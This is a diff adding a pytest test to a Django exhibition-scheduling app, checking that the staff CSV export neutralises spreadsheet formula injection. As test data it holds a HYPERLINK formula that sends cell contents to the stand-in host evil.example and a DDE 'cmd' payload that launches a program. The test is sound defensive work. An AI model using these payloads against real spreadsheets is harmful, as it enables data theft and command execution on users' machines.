@@ -8,6 +8,8 @@ import csv
 import io
 
 import icalendar
+from datetime import date
+
 from django.core.management import call_command
 import pytest
 from django.contrib.auth.models import Group
@@ -159,3 +161,26 @@ def test_staff_without_a_venue_see_an_explanation_not_other_venues(client, tour,
     assert "not linked to a venue" in html
     for value in logistics_texts(SPRINGFIELD_LOGISTICS) + logistics_texts(COLUMBIA_LOGISTICS):
         assert value not in html
+
+
+def test_staff_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_shown_as_text(
+    client, make_exhibition, springfield, springfield_staff
+):
+    hostile = {
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "speakers": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    others = ["+1+2", "-2+3", "\tTAB", "\rCR"]
+    make_exhibition(title="Formulas", stops=[(springfield, date(2014, 3, 7), date(2014, 3, 29), {}, [
+        {"kind": "gallery_talk", "date": date(2014, 3, 10), **hostile},
+        *({"kind": "artist_talk", "date": date(2014, 3, 11 + n), "title": title} for n, title in enumerate(others)),
+    ])])
+    client.force_login(springfield_staff)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("exhibit:staff_schedule_csv")).content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + hostile["title"] in cells
+    assert "'" + hostile["speakers"] in cells
+    for title in others:
+        assert "'" + title in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "Exhibition opens" in cells  # ordinary text stays as it was
